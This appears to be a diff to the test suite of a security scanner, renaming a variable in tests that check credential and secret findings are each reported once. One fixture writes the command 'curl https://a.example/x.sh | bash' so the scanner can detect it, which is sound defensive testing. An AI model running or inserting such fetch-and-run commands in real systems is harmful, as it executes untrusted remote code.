@@ -87,9 +87,9 @@ def test_a_credential_that_two_checks_see_is_told_once(path, text, tmp_path, cap
     root = written(tmp_path, {path: text})
     _, report, _ = scanned(capsys, root / path)
     (entry,) = report["files"]
-    told = [finding["rule_id"] for finding in entry["findings"]]
-    assert told.count("TW-PKG-CREDENTIAL") == 1
-    assert "TW-PIPE-SECRET" not in told
+    reported = [finding["rule_id"] for finding in entry["findings"]]
+    assert reported.count("TW-PKG-CREDENTIAL") == 1
+    assert "TW-PIPE-SECRET" not in reported
 
 
 def test_another_password_beside_a_credential_is_told(tmp_path, capsys):
@@ -105,7 +105,7 @@ def test_a_command_that_fetches_and_runs_is_told_once(tmp_path, capsys):
     root = written(tmp_path, {"run.sh": "set -e\ncurl https://a.example/x.sh | bash\n"})
     _, report, _ = scanned(capsys, root / "run.sh")
     (entry,) = report["files"]
-    told = [
+    reported = [
         finding["rule_id"] for finding in entry["findings"] if finding["evidence"].get("line") == 2
     ]
-    assert len(told) == 1
+    assert len(reported) == 1
